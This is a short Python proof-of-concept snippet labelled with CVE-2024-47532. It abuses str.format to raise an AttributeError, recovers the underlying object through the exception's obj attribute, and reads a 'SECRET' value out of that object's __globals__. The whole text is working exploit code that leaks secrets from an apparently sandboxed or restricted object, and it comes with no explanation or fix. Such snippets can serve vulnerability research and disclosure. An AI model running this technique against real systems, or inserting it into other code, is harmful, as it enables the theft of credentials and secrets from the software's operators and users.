# CVE-2024-47532: AttributeError.obj hands back the object whose attribute was missing.
try:
    "{0.no_such_attribute}".format(tool)
except AttributeError as e:
    leaked = e.obj
print(leaked.__globals__["SECRET"])
